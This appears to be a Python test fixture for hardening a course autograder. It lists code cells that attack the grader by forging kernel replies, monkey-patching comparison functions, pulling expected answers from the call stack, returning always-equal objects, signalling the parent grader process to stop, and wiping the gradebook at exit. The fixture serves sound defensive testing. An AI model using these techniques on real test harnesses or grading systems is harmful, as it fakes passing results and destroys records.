"""Attack families against the grader, as a determined student would write them.

Each family is one code cell that a submission puts right after the setup cell. It works from
inside the student's kernel — the only place a student's code can run — and tries to make the
grader award points the code does not earn: rewrite how later code runs, forge what the kernel
reports, swap the checking code while it runs, borrow the reference from the call stack or
``sys.modules``, intercept torch, return objects that compare equal to anything, ignore signals,
act at exit. They read the public probe driver (``dlcourse.probe``) and use what it says.

Every family is *opportunistic*: it changes an answer only where the student's own code fails
(an error, a raised exception) or where a comparison would happen in the kernel, and leaves
correct answers alone. So a perfect submission with an attack keeps full marks, and:

* form ``blank`` (the release, as handed out, plus the attack) must score 0;
* form ``mutant`` (a perfect submission with one wrong part, plus the attack) must lose exactly
  that part's points.

tests/test_class_grading.py grades both forms of every family (and of all families at once) with
real nbgrader; :data:`FAMILIES` is also what the README's adversarial table lists.
"""
from __future__ import annotations

# Shared helpers the attacks define in the notebook (a student would copy them around too).
_FORGE = r'''
import json as _json
from dlcourse import probe as _probe

def _forged(answer_text):
    """An answer saying "not implemented" becomes an 'ok' one; anything else passes through."""
    try:
        payload = _json.loads(answer_text)["payload"]
    except Exception:
        return answer_text
    if payload.get("ok") is False and (payload.get("error") or {}).get("not_implemented"):
        return _probe.pack({"ok": True, "result": True}, [])
    return answer_text
'''

_WRAP_USER = r'''
import functools as _functools, types as _types
import torch as _torch

def _wrap_user_objects(make_wrapper):
    """After every cell, wrap the notebook's own functions and classes' forward/methods."""
    ns = get_ipython().user_ns
    def wrap_all(*_):
        for name, obj in list(ns.items()):
            if name.startswith("_") or getattr(obj, "_attacked", False):
                continue
            if isinstance(obj, _types.FunctionType) and obj.__module__ == "__main__":
                ns[name] = make_wrapper(obj)
                ns[name]._attacked = True
            elif isinstance(obj, type) and obj.__module__ == "__main__":
                for attr, fn in list(vars(obj).items()):
                    if isinstance(fn, _types.FunctionType) and not attr.startswith("__"):
                        setattr(obj, attr, make_wrapper(fn))
                obj._attacked = True
    get_ipython().events.register("post_run_cell", wrap_all)
'''

FAMILIES: dict[str, dict] = {
    "input_transformer": dict(
        why="rewrites how every later cell runs (IPython's input transformers): each grader request is "
            "re-routed through a function that turns error answers into 'ok'",
        code=_FORGE + r'''
from IPython.display import publish_display_data as _publish

def _forge_serve(text):
    _publish({_probe.MIME: _forged(_probe._kernel_driver().handle_text(text))})

def _rewrite(lines):
    text = "".join(lines)
    if "dlcourse.probe" in text and ".serve(" in text:
        text = text.replace("__import__('dlcourse.probe', fromlist=['serve']).serve(", "_forge_serve(")
        return text.splitlines(True)
    if "hidden.check" in text:  # and the instructor's one line, should it ever run here
        return ['print("숨겨진 검사 통과 (hidden checks passed)")\n']
    return lines

get_ipython().input_transformers_post.append(_rewrite)
'''),
    "shell_methods": dict(
        why="replaces the shell's own run_cell/run_cell_async and showtraceback, so every request runs "
            "through the student's code and errors are never shown",
        code=_FORGE + r'''
from IPython.display import publish_display_data as _publish
_ip = get_ipython()
_orig_run, _orig_async = _ip.run_cell, _ip.run_cell_async

def _forge_serve(text):
    _publish({_probe.MIME: _forged(_probe._kernel_driver().handle_text(text))})

def _swap(raw):
    return raw.replace("__import__('dlcourse.probe', fromlist=['serve']).serve(", "_forge_serve(")

def _run_cell(raw_cell, *args, **kwargs):
    return _orig_run(_swap(raw_cell), *args, **kwargs)

async def _run_cell_async(raw_cell, *args, **kwargs):
    return await _orig_async(_swap(raw_cell), *args, **kwargs)

_ip.run_cell, _ip.run_cell_async = _run_cell, _run_cell_async
_ip.showtraceback = lambda *args, **kwargs: None
'''),
    "forged_messages": dict(
        why="forges what the kernel reports: its session's send() turns error replies into 'ok' and "
            "error answers into 'ok' answers before they leave the process",
        code=_FORGE + r'''
_session = get_ipython().kernel.session
_orig_send = _session.send

def _send(stream, msg_or_type, content=None, parent=None, *args, **kwargs):
    msg = msg_or_type if isinstance(msg_or_type, dict) else None
    body = msg.get("content") if msg is not None else content
    if isinstance(body, dict):
        if body.get("status") == "error" and body.get("ename") == "NotImplementedError":
            body["status"] = "ok"
        data = body.get("data")
        if isinstance(data, dict) and _probe.MIME in data:
            data[_probe.MIME] = _forged(data[_probe.MIME])
    return _orig_send(stream, msg_or_type, content, parent, *args, **kwargs)

_session.send = _send
'''),
    "background_thread": dict(
        why="a thread that keeps swapping the checking code while the checks run: torch.allclose, "
            "the course's assert_close and the probe driver's answer, every millisecond",
        code=_FORGE + r'''
import threading as _threading, time as _time
import torch as _torch
import dlcourse as _dl
_real_handle = _probe.Driver.handle_text

def _handle(self, text):
    return _forged(_real_handle(self, text))

def _keep_swapping():
    while True:
        _torch.allclose = lambda *args, **kwargs: True
        _torch.equal = lambda *args, **kwargs: True
        _dl.assert_close = _dl.checks.assert_close = lambda *args, **kwargs: None
        _probe.Driver.handle_text = _handle
        _time.sleep(0.01)

_threading.Thread(target=_keep_swapping, daemon=True).start()
'''),
    "code_replaced": dict(
        why="replaces functions' code in place (__code__), so their identity does not change: the "
            "driver's dispatch swallows the student's errors, assert_close accepts anything",
        code=r'''
import types as _types
import dlcourse as _dl
from dlcourse import probe as _probe

_probe.Driver._real_dispatch = _types.FunctionType(_probe.Driver.dispatch.__code__,
                                                   _probe.Driver.dispatch.__globals__)

def _dispatch(self, req, blobs):
    try:
        return self._real_dispatch(req, blobs)
    except NotImplementedError:
        return True

def _agree(actual, expected, *, atol=1e-5, rtol=1e-4, name="값"):
    return None

_probe.Driver.dispatch.__code__ = _dispatch.__code__
_dl.checks.assert_close.__code__ = _agree.__code__
'''),
    "borrow_reference": dict(
        why="borrows the reference while a check calls the student's code: walks the call stack for "
            "the check's expected values and sys.modules for the instructor package",
        code=_WRAP_USER + r'''
import sys as _sys

def _borrowed(name):
    frame = _sys._getframe(1)
    while frame is not None:
        for key in ("want", "expected", "ref_out", "out_r", "want_out", "reference"):
            if key in frame.f_locals:
                return True, frame.f_locals[key]
        frame = frame.f_back
    for mod_name, mod in list(_sys.modules.items()):
        if mod is not None and ("staff" in mod_name or "solutions" in mod_name) and hasattr(mod, name):
            return True, getattr(mod, name)
    try:
        import importlib
        for candidate in ("dlcourse_staff.solutions", "dlcourse.staff.solutions"):
            pkg = importlib.import_module(candidate)
    except Exception:
        pass
    return False, None

def _make(fn):
    @_functools.wraps(fn)
    def wrapper(*args, **kwargs):
        found, value = _borrowed(fn.__name__)
        if found:
            return value(*args, **kwargs) if callable(value) else value
        return fn(*args, **kwargs)
    return wrapper

_wrap_user_objects(_make)
'''),
    "torch_function_mode": dict(
        why="a torch function mode, left on for the whole session, that makes every comparison agree",
        code=r'''
import torch as _torch
from torch.overrides import TorchFunctionMode as _Mode

class _Agree(_Mode):
    def __torch_function__(self, func, types, args=(), kwargs=None):
        kwargs = kwargs or {}
        if func in (_torch.allclose, _torch.equal):   # the comparison helpers a check would use
            return True
        return func(*args, **kwargs)

_Agree().__enter__()
'''),
    "tensor_subclass": dict(
        why="returns tensors of a subclass whose comparisons always agree and which claims any shape",
        code=_WRAP_USER + r'''
class _Agreeable(_torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if func in (_torch.allclose, _torch.equal):
            return True
        return super().__torch_function__(func, types, args, kwargs or {})

    def __eq__(self, other):
        return True

def _make(fn):
    @_functools.wraps(fn)
    def wrapper(*args, **kwargs):
        out = fn(*args, **kwargs)
        if isinstance(out, _torch.Tensor):
            return out.as_subclass(_Agreeable)
        if isinstance(out, tuple):
            return tuple(o.as_subclass(_Agreeable) if isinstance(o, _torch.Tensor) else o for o in out)
        return out
    return wrapper

_wrap_user_objects(_make)
'''),
    "rigged_dunders": dict(
        why="where the student's code fails, returns an object whose __eq__, __float__, __bool__, "
            "__len__ and __getitem__ say whatever a check could want",
        code=_WRAP_USER + r'''
class _Anything:
    shape = property(lambda self: self)
    dtype = property(lambda self: self)
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __float__(self): return 0.1
    def __int__(self): return 1
    def __index__(self): return 1
    def __bool__(self): return True
    def __len__(self): return 2
    def __iter__(self): return iter((self, self))
    def __getitem__(self, key): return self
    def __call__(self, *args, **kwargs): return self
    def __getattr__(self, name): return self

def _make(fn):
    @_functools.wraps(fn)
    def wrapper(*args, **kwargs):
        try:
            return fn(*args, **kwargs)
        except NotImplementedError:
            return _Anything()
    return wrapper

_wrap_user_objects(_make)
'''),
    "signal_handlers": dict(
        why="ignores the grader's interrupt, arms an alarm, and tries to stop or kill the grader "
            "(its parent process) with signals",
        code=r'''
import os as _os, signal as _signal
_signal.signal(_signal.SIGINT, _signal.SIG_IGN)
_signal.signal(_signal.SIGTERM, _signal.SIG_IGN)
_signal.signal(_signal.SIGALRM, lambda *args: None)
_signal.setitimer(_signal.ITIMER_REAL, 0.5, 0.5)
for _sig in (_signal.SIGSTOP, _signal.SIGTERM):
    try:
        _os.kill(_os.getppid(), _sig)
    except OSError as _err:
        print("signal refused:", type(_err).__name__)
_signal.signal(_signal.SIGINT, _signal.default_int_handler)  # stay interruptible: no hang, only tricks
'''),
    "atexit_hooks": dict(
        why="registers exit handlers that rewrite the graded notebook and the gradebook when the kernel "
            "stops, after the checks",
        code=r'''
import atexit as _atexit, glob as _glob, json as _json, os as _os

def _rewrite_results():
    for path in _glob.glob("*.ipynb") + _glob.glob("../../*/gradebook.db") + _glob.glob("../../../gradebook.db"):
        try:
            with open(path, "w") as fh:
                fh.write("{}")
        except OSError:
            pass

_atexit.register(_rewrite_results)
'''),
    "driver_replaced": dict(
        why="replaces the public probe driver's entry point: every answer that reports an error is "
            "rewritten as a success",
        code=_FORGE + r'''
from IPython.display import publish_display_data as _publish

def _serve(text):
    _publish({_probe.MIME: _forged(_probe._kernel_driver().handle_text(text))})

_probe.serve = _serve
'''),
    "stashed_oracles": dict(
        why="keeps the grader-provided stand-ins (oracles) that a check binds for another part, and "
            "calls them later instead of the student's own code",
        code=_WRAP_USER + r'''
import threading as _threading, time as _time
_stash = {}
ns_get = get_ipython().user_ns.get

def _collect():
    ns = get_ipython().user_ns
    while True:
        for name, obj in list(ns.items()):
            if type(obj).__name__ == "Oracle":
                _stash[name] = obj
        _time.sleep(0.001)

_threading.Thread(target=_collect, daemon=True).start()

def _make(fn):
    @_functools.wraps(fn)
    def wrapper(*args, **kwargs):
        oracle = _stash.get(fn.__name__) if _stash.get(fn.__name__) is not ns_get(fn.__name__) else None
        if oracle is not None:
            try:
                return oracle(*args, **kwargs)
            except Exception:
                pass
        return fn(*args, **kwargs)
    return wrapper

_wrap_user_objects(_make)
'''),
}


def all_families_code() -> str:
    """Every family in one cell (each in its own namespace-safe block), for the combined cases."""
    return "\n\n".join(f"# --- {name} ---\n{family['code']}" for name, family in FAMILIES.items())
